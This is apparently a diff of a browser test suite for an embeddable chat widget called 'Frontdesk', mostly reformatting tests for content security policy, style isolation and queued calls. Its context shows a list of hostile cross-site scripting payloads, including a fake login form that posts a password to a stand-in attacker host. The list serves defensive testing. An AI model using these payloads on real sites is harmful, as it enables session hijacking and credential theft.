@@ -10,7 +10,7 @@ HOSTILE = [
     "[click me](javascript:document.title='pwned')",
     "[click me](data:text/html,<script>alert(1)</script>)",
     "javascript:document.title='pwned'",
-    "\" onmouseover=\"document.title='pwned'\" x=\"",
+    '" onmouseover="document.title=\'pwned\'" x="',
     "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
     "**bold <b>not</b>** `<i>code</i>` {{constructor.constructor('alert(1)')()}}",
     "<style>*{display:none}</style><form action=https://evil.example><input name=password>",
@@ -80,7 +80,8 @@ def test_a_page_with_a_strict_policy_and_trusted_types_reports_nothing(desk, hos
     socket = desk.url.replace("http", "ws")
     policy = (
         f"default-src 'none'; script-src {scripts}; style-src 'none'; connect-src {socket};"
-        " base-uri 'none'; form-action 'none'; require-trusted-types-for 'script'; trusted-types 'none'"
+        " base-uri 'none'; form-action 'none';"
+        " require-trusted-types-for 'script'; trusted-types 'none'"
     )
     nonce = ' nonce="abc123"' if source == "nonce" else ""
     url = host.put("/strict", strict_page(desk, nonce), {"Content-Security-Policy": policy})
@@ -106,7 +107,8 @@ def test_a_page_of_another_site_is_refused(desk, host, shopper):
 def test_hostile_styles_of_the_page_stay_outside(desk, host, shopper):
     css = """
       * { color: red !important; font-size: 31px !important; font-family: cursive !important;
-        letter-spacing: 9px !important; line-height: 4 !important; text-transform: uppercase !important;
+        letter-spacing: 9px !important; line-height: 4 !important;
+        text-transform: uppercase !important;
         background: lime !important; direction: ltr; }
       button, div, section, textarea { display: none !important; border: 9px solid red !important; }
       frontdesk-chat, :host { color: red !important; font-size: 31px !important; zoom: 1; }
@@ -125,8 +127,8 @@ def test_hostile_styles_of_the_page_stay_outside(desk, host, shopper):
 
 def test_the_widget_moves_nothing_on_the_page(desk, shopper):
     shopper.page.add_init_script(
-        "window.shift = 0; new PerformanceObserver((list) => { for (const entry of list.getEntries())"
-        " window.shift += entry.value; }).observe({type: 'layout-shift', buffered: true});"
+        "window.shift = 0; new PerformanceObserver((list) => list.getEntries().forEach((entry) => {"
+        " window.shift += entry.value; })).observe({type: 'layout-shift', buffered: true});"
     )
     shopper.visit(desk.url)
     shopper.page.evaluate("Frontdesk.open()")
@@ -143,9 +145,9 @@ def test_a_page_may_carry_the_tag_twice(desk, host, shopper):
 
 def test_calls_made_before_the_widget_is_here_are_done_in_order(desk, host, shopper):
     early = (
-        "(window.Frontdesk = window.Frontdesk || []).push(['on', 'open', () => { window.opened = true; }],"
-        " ['identify', {name: 'Ana', email: 'ana@example.com'}], ['prefill', 'Where is my parcel?'],"
-        " ['open'], ['nonsense'])"
+        "(window.Frontdesk = window.Frontdesk || []).push("
+        "['on', 'open', () => { window.opened = true; }], ['identify', {name: 'Ana'}],"
+        " ['prefill', 'Where is my parcel?'], ['open'], ['nonsense'])"
     )
     page = f"<!doctype html><html lang='en'><title>Early</title><script>{early}</script>"
     tag = f'<script async data-site="demo" src="{desk.url}v1/chat.js"></script>'
